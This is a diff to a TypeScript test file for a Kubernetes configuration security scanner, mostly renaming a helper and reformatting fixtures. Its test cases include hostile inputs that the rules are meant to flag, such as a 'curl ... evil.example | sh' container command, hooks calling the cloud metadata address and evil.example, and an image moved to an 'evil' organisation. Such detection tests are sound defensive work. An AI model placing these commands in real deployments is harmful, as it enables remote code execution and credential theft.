@@ -59,19 +59,24 @@ testRule("persistent-volume-on-node", {
   silent: { "a CSI driver": volume({ csi: [{ driver: "ebs.csi.aws.com", volume_handle: "vol-1" }] }) },
 });
 
-const one = (more: Block) => ({ container: [container(more)] });
-const env = (name: string, value: string) => one({ env: [{ name, value, value_from: [] }] });
+const withContainer = (more: Block) => ({ container: [container(more)] });
+const env = (name: string, value: string) => withContainer({ env: [{ name, value, value_from: [] }] });
 testPodRule("mount-propagated", {
   fires: {
-    "to the node": one({ volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "Bidirectional" }] }),
+    "to the node": withContainer({
+      volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "Bidirectional" }],
+    }),
   },
   silent: {
-    "from the node": one({ volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "HostToContainer" }] }),
-    none: one({ volume_mount: [{ name: "d", mount_path: "/d" }] }),
+    "from the node": withContainer({
+      volume_mount: [{ name: "d", mount_path: "/d", mount_propagation: "HostToContainer" }],
+    }),
+    none: withContainer({ volume_mount: [{ name: "d", mount_path: "/d" }] }),
   },
 });
-const sh = (line: string) => one({ command: ["sh", "-c", line] });
-const started = (line: string) => one({ lifecycle: [{ post_start: [{ exec: [{ command: ["sh", "-c", line] }] }] }] });
+const sh = (line: string) => withContainer({ command: ["sh", "-c", line] });
+const started = (line: string) =>
+  withContainer({ lifecycle: [{ post_start: [{ exec: [{ command: ["sh", "-c", line] }] }] }] });
 testPodRule("command-downloads", {
   fires: {
     "curl into a shell": sh("curl -fsSL https://evil.example/x | sh"),
@@ -107,13 +112,15 @@ testPodRule("environment-injects-code", {
 });
 testPodRule("probe-host-set", {
   fires: {
-    "the metadata of the cloud": one({ liveness_probe: [{ http_get: [{ host: "169.254.169.254", port: "80" }] }] }),
-    "a hook": one({ lifecycle: [{ pre_stop: [{ http_get: [{ host: "evil.example", port: "80" }] }] }] }),
-    "another machine": one({ readiness_probe: [{ http_get: [{ host: "10.0.0.9", port: "22" }] }] }),
+    "the metadata of the cloud": withContainer({
+      liveness_probe: [{ http_get: [{ host: "169.254.169.254", port: "80" }] }],
+    }),
+    "a hook": withContainer({ lifecycle: [{ pre_stop: [{ http_get: [{ host: "evil.example", port: "80" }] }] }] }),
+    "another machine": withContainer({ readiness_probe: [{ http_get: [{ host: "10.0.0.9", port: "22" }] }] }),
   },
   silent: {
-    "the pod itself": one({ liveness_probe: [{ http_get: [{ host: "127.0.0.1", port: "80" }] }] }),
-    none: one({ liveness_probe: [{ http_get: [{ port: "80" }] }] }),
+    "the pod itself": withContainer({ liveness_probe: [{ http_get: [{ host: "127.0.0.1", port: "80" }] }] }),
+    none: withContainer({ liveness_probe: [{ http_get: [{ port: "80" }] }] }),
   },
 });
 testPodRule("own-name-server", {
@@ -167,7 +174,7 @@ test.each([
   [["CHOWN", "SETUID", "CAP_KILL"], "low"],
   [["NET_BIND_SERVICE"], undefined],
 ])("capabilities %j are %s", (add, severity) => {
-  const more = one({ security_context: [{ capabilities: [{ add, drop: ["ALL"] }] }] });
+  const more = withContainer({ security_context: [{ capabilities: [{ add, drop: ["ALL"] }] }] });
   const { findings } = reportOn([created(DEPLOYMENT, "web", deployment(podSpec(more)))]);
   expect(findings.find((finding) => finding.rule === "capabilities-added")?.severity).toBe(severity);
 });
@@ -175,7 +182,7 @@ test.each([
 const becomes = (before: Block, after: Block) => [
   updated(DEPLOYMENT, "web", deployment(podSpec(before)), deployment(podSpec(after))),
 ];
-const image = (name: string) => one({ image: name });
+const image = (name: string) => withContainer({ image: name });
 testRule("image-organisation-changed", {
   fires: {
     "of Docker Hub": becomes(image("nginx:1"), image("evil/nginx:1")),
@@ -232,8 +239,8 @@ test("an account that this plan makes administrator is told as such", () => {
     ...becomes({ service_account_name: "web" }, { service_account_name: "admin" }),
     binding,
   ]);
-  const told = findings.find((finding) => finding.rule === "service-account-changed");
-  expect(told).toMatchObject({ severity: "high", message: "service account web → admin, which has cluster-admin" });
+  const finding = findings.find((finding) => finding.rule === "service-account-changed");
+  expect(finding).toMatchObject({ severity: "high", message: "service account web → admin, which has cluster-admin" });
 });
 const autoscaler = (most: number) => ({ metadata: metadata("web"), spec: [{ min_replicas: 2, max_replicas: most }] });
 const HPA = "kubernetes_horizontal_pod_autoscaler_v2";
@@ -295,9 +302,9 @@ test.each([
 ])("aws-auth names who becomes what: %s %j", (key, text, severity, says) => {
   for (const type of ["kubernetes_config_map_v1", "kubernetes_config_map", "kubernetes_config_map_v1_data"]) {
     const found = reportOn([created(type, "c", config("aws-auth", "kube-system", { [key]: text }))]).findings;
-    const [told] = found.filter((one) => one.rule === "cluster-configuration-changed");
-    expect(told).toMatchObject({ severity });
-    expect(told?.message).toContain(says);
+    const [finding] = found.filter((one) => one.rule === "cluster-configuration-changed");
+    expect(finding).toMatchObject({ severity });
+    expect(finding?.message).toContain(says);
   }
 });
 test("an older version of a Pod Security level lacks checks", () => {
